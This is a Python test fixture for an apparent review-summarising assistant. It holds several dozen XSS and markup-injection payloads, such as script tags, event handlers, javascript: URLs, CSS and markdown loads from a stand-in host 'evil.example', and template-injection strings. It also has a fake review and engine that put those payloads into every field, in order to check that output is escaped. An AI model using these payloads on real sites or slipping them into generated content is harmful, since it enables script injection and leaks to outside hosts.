"""Texts that try to become markup, and a made-up review and engine that carry them everywhere."""

from __future__ import annotations

from collections.abc import Sequence

from assistant.corpus.corpus import Review
from assistant.folder.folder import RawReview, Sentence, Table, TableColumn, TableRow
from assistant.model import (
    Answer,
    AssistantError,
    Citation,
    Conflict,
    Fact,
    Kind,
    Locator,
    Passage,
    Reference,
    Statement,
    Status,
    Study,
)

EVIL = "http://evil.example"
CHUNK = 16
"""Payloads of one question."""

_BASES = (
    "<script>hit()</script>",
    f"<script src={EVIL}/a.js></script>",
    "<ScRiPt>hit()</sCrIpT>",
    "<img src=x onerror=hit()>",
    f"<img src={EVIL}/a.png>",
    f'<img srcset="{EVIL}/b.png 1x">',
    f"<picture><source srcset={EVIL}/c.png><img></picture>",
    "<svg onload=hit()></svg>",
    "<svg><script>hit()</script></svg>",
    f"<svg><image href={EVIL}/d.png /></svg>",
    f"<svg><use href={EVIL}/e.svg#x /></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><a href=javascript:hit()><text y=9>x</text></a></svg>",
    "<math><mtext><img src=x onerror=hit()></mtext></math>",
    f"<iframe src={EVIL}/f></iframe>",
    '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
    f"<object data={EVIL}/g></object>",
    f"<embed src={EVIL}/h>",
    f"<form action={EVIL}/i><input name=q autofocus onfocus=hit()><button>Send</button></form>",
    f"<button formaction={EVIL}/j>Send</button>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>x</summary></details>",
    "<video src=x onerror=hit()></video>",
    f"<video poster={EVIL}/k.png></video>",
    f"<audio src={EVIL}/l autoplay onerror=hit()></audio>",
    f"<style>@import url({EVIL}/m.css);</style>",
    f"<style>body{{background:url({EVIL}/n.png)}}</style>",
    f'<div style="background:url({EVIL}/o.png);position:fixed;inset:0">x</div>',
    f"<link rel=stylesheet href={EVIL}/p.css>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/q'>",
    f"<base href={EVIL}/>",
    "<a href=javascript:hit()>x</a>",
    "<a href='data:text/html,<script>hit()</script>'>x</a>",
    f"<a href={EVIL}/r ping={EVIL}/s>x</a>",
    f"![x]({EVIL}/t.png)",
    f"![x][1]\n\n[1]: {EVIL}/u.png",
    f"[x]({EVIL}/v)",
    "[x](javascript:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    f"<{EVIL}/w>",
    f"{EVIL}/x.png",
    "$$\\href{javascript:hit()}{x}$$",
    "${hit()}",
    "{{constructor.constructor('hit()')()}}",
    "{{{hit()}}}",
    "<%= hit() %>",
    "```html\n<img src=x onerror=hit()>\n```",
    "<template><img src=x onerror=hit()></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
    "<body onload=hit()>",
    "<marquee onstart=hit()>x</marquee>",
    "<table background=x><tr><td>x</table><img src=x onerror=hit()>",
)
_WRAPPERS = ("{}", '">{}', "'>{}<!--", "</p></td></textarea></title></style></svg>{}")
PAYLOADS = tuple(
    f"{wrapper.format(base)} #{k}{j}#" for k, base in enumerate(_BASES) for j, wrapper in enumerate(_WRAPPERS)
)
"""Each ends in a number of its own, by which it is found on the page."""


class _Reader:
    """What a review needs of its reader here: nothing."""


def hostile_review(payloads: Sequence[str]) -> Review:
    """A review with a payload in each of its texts; its k-th study, sentence and reference carry the k-th."""
    rows = (
        TableRow("Study agents", tuple(payloads)),
        TableRow("Survival outcome", tuple(payloads)),
        TableRow(payloads[0], tuple(payloads)),
    )
    columns = tuple(TableColumn(f"S-{k}", payloads[k]) for k in range(len(payloads)))
    table = Table("table-1.csv", "Table 1", payloads[1], payloads[2], payloads[3], columns, rows)
    sentences = tuple(
        Sentence(p, p, (f"S-{k}",), (), (), payloads[4], k // CHUNK + 1, k % CHUNK + 1)
        for k, p in enumerate(payloads)
    )
    references = tuple(Reference(k + 1, (p,), p, p, "2024", doi=p) for k, p in enumerate(payloads))
    raw = RawReview(
        "hostile", payloads[5], (payloads[6],), payloads[7], "2024", "1", payloads[8], payloads[9],
        payloads[10], "Study", {}, sentences, (table,), references, {payloads[11]: payloads[12]},
    )  # fmt: skip
    studies = tuple(Study(f"S-{k}", f"Study {p}", "hostile", p, k + 1) for k, p in enumerate(payloads))
    passages = tuple(_passages(payloads))
    facts = tuple(
        Fact(f"S-{k}", attribute, value, f"cell{k}", unit=unit, time_point=time, start=0, end=9)
        for k, p in enumerate(payloads)
        for attribute, value, unit, time in (
            ("agents", p, "", ""),
            ("n_patients", f"{p} 12", "patients", ""),
            ("OS", f"61% {p}", "%", f"2-year {p}"),
        )
    )
    return Review(raw, studies, passages, facts, {}, {}, {}, _Reader())  # type: ignore[arg-type]


def _passages(payloads: Sequence[str]) -> list[Passage]:
    found = []
    for k, p in enumerate(payloads):
        prose = Locator(
            "hostile", Kind.SENTENCE, section=payloads[4], paragraph=k // CHUNK + 1, sentence=k % CHUNK + 1
        )
        cell = Locator("hostile", Kind.CELL, table="Table 1", row="Survival outcome", column=f"S-{k}")
        entry = Locator("hostile", Kind.REFERENCE, entry=str(k + 1))
        short = Locator("hostile", Kind.ABBREVIATION, entry=p)
        for name, place in (("prose", prose), ("cell", cell), ("entry", entry), ("short", short)):
            found.append(Passage(f"{name}{k}", p, p, (f"S-{k}",), place))
    return found


class HostileEngine:
    """Answers ``chunk n …`` with the n-th chunk of payloads, and refuses ``refuse n`` with it."""

    corpus_hash = "c0ffee"

    def __init__(self, payloads: Sequence[str]) -> None:
        self._payloads = list(payloads)
        self.reviews = (hostile_review(payloads),)

    def warm(self) -> None:
        """There is nothing to open."""

    def ask(self, turns: Sequence[str], review: str | None = None) -> Answer:
        word, number = turns[-1].split()[:2]
        first = int(number) * CHUNK
        own = self._payloads[first : first + CHUNK]
        if word == "refuse":
            raise AssistantError(" ".join(own), " ".join(reversed(own)))
        citations = tuple(self._citations(first, own))
        statements = tuple(Statement(p, (4 * k, 4 * k + 1, 4 * k + 2, 4 * k + 3)) for k, p in enumerate(own))
        conflicts = tuple(Conflict(f"Conflict: {p}", (k,)) for k, p in enumerate(own))
        text = " ".join(s.text for s in statements)
        return Answer(
            turns[-1], Status.ANSWERED, text, statements, citations, (), conflicts, self.corpus_hash
        )

    def _citations(self, first: int, own: Sequence[str]) -> list[Citation]:
        names = ("prose", "cell", "entry", "short")
        return [
            Citation(f"{name}{first + k}", f"S-{first + k}", p, first + k + 1, "hostile", p, p)
            for k, p in enumerate(own)
            for name in names
        ]


def payload_in(text: str, payload: str) -> bool:
    """Whether the payload's number stands in ``text``."""
    return payload.rsplit(" ", 1)[1] in text
